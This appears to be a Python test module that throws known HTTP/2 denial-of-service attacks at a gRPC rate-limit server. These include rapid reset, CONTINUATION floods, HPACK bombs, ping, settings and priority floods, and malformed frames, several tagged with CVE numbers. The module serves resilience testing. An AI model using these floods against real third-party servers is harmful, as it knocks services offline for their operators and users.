"""Frames that cost the server something and ask for nothing; the known attacks on HTTP/2 are among them."""

from attack.attacker import Attacker
from attack.catalogue import Need, attack
from attack.frames import NARROW, calls, data, headers, literal, message, number_of, reset, settings, text, window
from attack.wire import Ended, Wire
from ratelimit_service.commands.load.connection import CONTINUATION, HEADERS, PADDED, PING, PREFACE, frame

MANY = 2000
"""Frames that are sent in one go."""


async def flood(attacker: Attacker, what: bytes, before: bytes = b"", connections: int = 4) -> None:
    """The same bytes again and again, on connections that are opened anew when they are ended."""

    async def client(wire: Wire) -> None:
        if before:
            await wire.send(before)
        await wire.repeat(what)

    await attacker.each(connections, client)


async def streams(attacker: Attacker, *parts: bytes, connections: int = 4) -> None:
    """On new streams all the time: blocks of HEADERS, or frames where a part begins a call of its own."""

    async def client(wire: Wire) -> None:
        while True:
            await wire.send(b"".join(headers(number, part) for part in parts for number in wire.numbers(MANY // 4)))

    await attacker.each(connections, client)


@attack()
async def rapid_reset(attacker: Attacker) -> None:
    """CVE-2023-44487: calls that are reset as soon as they are sent."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        while True:
            await wire.send(b"".join(headers(number, block) + reset(number) for number in wire.numbers(500)))

    await attacker.each(4, client)


@attack()
async def rapid_reset_when_asked(attacker: Attacker) -> None:
    """The same with whole calls: each is at work when it is reset."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        while True:
            numbers = wire.numbers(200)
            await wire.send(b"".join(calls([number], block, attacker.message) + reset(number) for number in numbers))

    await attacker.each(4, client)


@attack(Need.TLS)
async def rapid_reset_tls(attacker: Attacker) -> None:
    """Rapid reset through TLS, and PINGs whose answers are not read."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        wire.stop_reading()
        while True:
            numbers = wire.numbers(200)
            out = b"".join(headers(number, block) + reset(number) for number in numbers)
            await wire.send(out + frame(PING, 0, 0, b"12345678") * 200)

    await attacker.each(4, client)


@attack()
async def server_resets(attacker: Attacker) -> None:
    """CVE-2025-8671: calls that the server itself must reset, by an increment of 0 or a false length."""
    block, false = attacker.block(), attacker.block((b"content-length", b"1"))

    async def client(wire: Wire) -> None:
        while True:
            out = [headers(number, block) + window(number, 0) for number in wire.numbers(200)]
            out += [headers(number, false) + data(number, attacker.message) for number in wire.numbers(200)]
            await wire.send(b"".join(out))

    await attacker.each(4, client)


@attack()
async def bad_headers(attacker: Attacker) -> None:
    """Headers that HTTP/2 forbids, on new streams: each is reset by the server."""
    await streams(attacker, attacker.block((b"connection", b"close")), attacker.block((b"te", b"gzip")))


@attack()
async def continuation_flood(attacker: Attacker) -> None:
    """CVE-2024-27316: headers that never end, in empty frames and in full ones."""
    start = frame(HEADERS, 0, 1, attacker.block())
    empty, full = frame(CONTINUATION, 0, 1), frame(CONTINUATION, 0, 1, literal(b"x", b"v" * 8000))

    async def client(wire: Wire) -> None:
        await wire.send(start)
        await wire.repeat(empty * MANY if attacker.random.random() < 0.5 else full * 100)

    await attacker.each(4, client)


@attack()
async def hpack_bomb(attacker: Attacker) -> None:
    """CVE-2016-6581: a large header in the table, then 16,000 references to it."""
    bomb = b"\x40" + text(b"x") + text(b"v" * 4000) + b"\xbe" * 16_000
    block = attacker.block() + bomb

    async def client(wire: Wire) -> None:
        while True:
            number = wire.number()
            await wire.send(frame(HEADERS, 0, number, block[:16_000]) + frame(CONTINUATION, 4, number, block[16_000:]))

    await attacker.each(4, client)


@attack()
async def hpack_churn(attacker: Attacker) -> None:
    """A client that never acknowledges SETTINGS and fills the table anew with each call."""

    async def client(wire: Wire) -> None:
        wire.acknowledges = False
        while True:
            out = []
            for number in wire.numbers(50):
                block = attacker.block() + b"".join(
                    b"\x40" + text(b"x%d" % at) + text(b"%d" % number) for at in range(30)
                )
                out.append(headers(number, block) + data(number, attacker.message))
            await wire.send(b"".join(out))
            await wire.until_ended(wire.streams_ended + 1)

    await attacker.each(4, client)


@attack()
async def huge_integers(attacker: Attacker) -> None:
    """Integers of HPACK without end, and Huffman's code that stands for much."""
    endless = b"\x7f" + b"\x80" * 15_000
    huffman = attacker.block() + b"\0\1x" + number_of(7_900, 7, 0x80) + bytes(7_900)

    async def client(wire: Wire) -> None:
        while True:
            await wire.send(b"".join(headers(number, huffman) for number in wire.numbers(20)))
            await wire.send(headers(wire.number(), endless))
            await wire.wait()

    await attacker.each(4, client)


@attack()
async def ping_flood(attacker: Attacker) -> None:
    """CVE-2019-9512: PINGs, each to be answered."""
    await flood(attacker, frame(PING, 0, 0, b"12345678") * MANY)


@attack()
async def settings_flood(attacker: Attacker) -> None:
    """CVE-2019-9515: SETTINGS, each to be acknowledged."""
    await flood(attacker, settings((3, 1)) * MANY)


@attack()
async def settings_paid_for(attacker: Attacker) -> None:
    """2,700 settings in one frame, with a call for each frame: below the budget of a flood."""
    many = settings(*[(4, 2**31 - 1), (4, 0)] * 1350)
    block = attacker.block()

    async def client(wire: Wire) -> None:
        while True:
            out = [calls([number], block, attacker.message) + many for number in wire.numbers(4)]
            await wire.send(b"".join(out))

    await attacker.each(4, client)


@attack()
async def empty_data(attacker: Attacker) -> None:
    """CVE-2019-9518: DATA without a byte."""
    await flood(attacker, data(1, b"", end=False) * MANY, headers(1, attacker.block()))


@attack()
async def priority_flood(attacker: Attacker) -> None:
    """CVE-2019-9513: streams that change their priority all the time."""
    await flood(attacker, b"".join(frame(2, 0, 1, bytes((0, 0, 0, other, 1))) for other in (3, 5, 7, 9)) * (MANY // 4))


@attack()
async def window_updates(attacker: Attacker) -> None:
    """Windows that grow by one byte at a time."""
    await flood(attacker, window(0, 1) * MANY)


@attack()
async def window_settings(attacker: Attacker) -> None:
    """CVE-2019-9511: 900 answers wait, and their windows are opened and shut again and again."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        await wire.send(calls(wire.numbers(90), block, attacker.message))
        await wire.repeat((settings((4, 1)) + settings((4, 0))) * 200)

    await attacker.each(4, client, lambda: attacker.open(NARROW))


@attack()
async def unknown_frames(attacker: Attacker) -> None:
    """Frames of kinds that no RFC has, to be ignored."""
    await flood(attacker, frame(77, 0, 0) * MANY)


@attack()
async def padded_data(attacker: Attacker) -> None:
    """A message of 100 KB in frames of one byte, each padded with 255."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        while True:
            number = wire.number()
            await wire.send(headers(number, block) + data(number, b"\0\0\1\x86\xa0", end=False))
            for _ in range(500):
                await wire.spend(frame(0, PADDED, number, b"\xffx" + bytes(255)) * 200, 200 * 257)

    await attacker.each(4, client)


@attack()
async def reads_in_one_turn(attacker: Attacker) -> None:
    """DATA of 130 bytes for a stream that was reset: cheap for a frame, and as many as the socket takes."""
    block = attacker.block()
    late = data(1, b"x" * 130, end=False)

    async def client(wire: Wire) -> None:
        await wire.send(headers(wire.number(), block) + window(1, 0))
        while True:
            await wire.spend(late * 400, 400 * 130)

    await attacker.each(4, client)


@attack()
async def after_goaway(attacker: Attacker) -> None:
    """A client that says GOAWAY and goes on: frames of streams that are over, and new calls."""
    block = attacker.block()
    bye = frame(7, 0, 0, bytes(8))

    async def client(wire: Wire) -> None:
        await wire.send(bye)
        while True:
            numbers = wire.numbers(100)
            await wire.send(b"".join(headers(number, block, end=True) for number in numbers) + bye)

    await attacker.each(4, client)


@attack()
async def unknown_methods(attacker: Attacker) -> None:
    """Calls of unknown methods."""
    await streams(attacker, attacker.block(path="/no.such.Service/Method"))


@attack()
async def not_grpc(attacker: Attacker) -> None:
    """POST with the content-type of a form: HTTP 415."""
    known = b"\x83" + (b"\x87" if attacker.target.tls else b"\x86") + b"\x01\x01x" + b"\x04" + text(b"/x")
    await streams(attacker, known + literal(b"content-type", b"application/x-www-form-urlencoded"))


@attack()
async def huge_headers(attacker: Attacker) -> None:
    """Calls with 15 KB of headers that never came before."""

    async def client(wire: Wire) -> None:
        while True:
            out = []
            for number in wire.numbers(10):
                mark = b"%x" % attacker.random.getrandbits(64)
                more = b"".join(literal(b"h%d" % at, mark + b"v" * 200) for at in range(60))
                out.append(headers(number, attacker.block() + more) + data(number, attacker.message))
            await wire.exchange(b"".join(out), 10)

    await attacker.each(4, client)


@attack()
async def header_cache(attacker: Attacker) -> None:
    """100 connections fill what a server remembers of header blocks, and stay."""

    async def client(wire: Wire) -> None:
        for number in wire.numbers(300):
            mark = b"%x" % attacker.random.getrandbits(64)
            more = b"".join(literal(b"h%d" % at, mark) for at in range(40))
            await wire.send(headers(number, attacker.block() + more) + data(number, attacker.message))
        await wire.until_closed()

    await attacker.each(100, client)


@attack()
async def frame_too_large(attacker: Attacker) -> None:
    """Frames larger than announced, streams that are used twice or out of order: each ends its connection."""
    block = attacker.block()
    wrong = [
        b"\0\x40\x01\0\0\0\0\0\1" + bytes(16_385),
        headers(5, block) + headers(3, block),
        headers(1, block, end=True) + headers(1, block),
        headers(2, block),
        data(7, b"x"),
        window(0, 2**31 - 1),
        frame(5, 4, 1, b"\0\0\0\2"),
        frame(0, PADDED, 1, b"\xff"),
        PREFACE,
    ]

    async def client(wire: Wire) -> None:
        await wire.send(attacker.random.choice(wrong))
        await wire.until_closed()

    await attacker.each(20, client)


@attack()
async def table_grows_in_trailers(attacker: Attacker) -> None:
    """A table that grows in trailers, while the server remembers blocks: a valid call must not be read wrong."""
    block = attacker.block()
    indexed = block + b"\x40" + text(b"x-mark") + text(b"1")
    grown = b"\x3f" + number_of(4096, 5)[1:] + literal(b"x-end", b"1")

    async def client(wire: Wire) -> None:
        wire.acknowledges = False
        try:
            for _ in range(20):
                one, two, three = wire.numbers(3)
                asked = headers(one, indexed) + data(one, attacker.message, end=False) + frame(HEADERS, 5, one, grown)
                # By the table's own rules the entry that `indexed` adds is there for the calls that follow.
                asked += headers(two, indexed) + data(two, attacker.message)
                asked += headers(three, block + b"\xbe") + data(three, attacker.message)
                await wire.exchange(asked, 3)
        except Ended:
            if "GOAWAY COMPRESSION_ERROR" in attacker.counts.ended:
                attacker.harm("valid headers end the connection with COMPRESSION_ERROR")
            raise

    await attacker.each(2, client)


@attack()
async def long_messages(attacker: Attacker) -> None:
    """Names of 1,000 characters that come back in an error: no client takes headers over 8 KiB."""
    from_client = message(b"\x0a\xb8\x17" + "€".encode() * 1000)

    async def client(wire: Wire) -> None:
        block = attacker.block(path="/grpc.health.v1.Health/Check")
        while True:
            await wire.call(block, from_client)
            if wire.max_head > 8192:
                attacker.harm("headers over 8 KiB: clients see another status")

    await attacker.each(2, client)


@attack()
async def http_1_on_grpc(attacker: Attacker) -> None:
    """HTTP/1 and noise on the gRPC port, 20 connections at a time."""
    said = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", bytes(range(256)), b"\x16\x03\x01\x02\0" + bytes(512), b"PRI * HTTP"]

    async def client(wire: Wire) -> None:
        await wire.send(attacker.random.choice(said))
        wire.transport.write_eof()
        await wire.until_closed()

    await attacker.each(20, client, lambda: attacker.open_raw(attacker.target.port))


@attack()
async def stream_numbers(attacker: Attacker) -> None:
    """Calls on the last numbers that there are, on connections that are opened again."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        for number in (2**31 - 3, 2**31 - 1):
            await wire.exchange(calls([number], block, attacker.message), 1)

    await attacker.each(20, client)
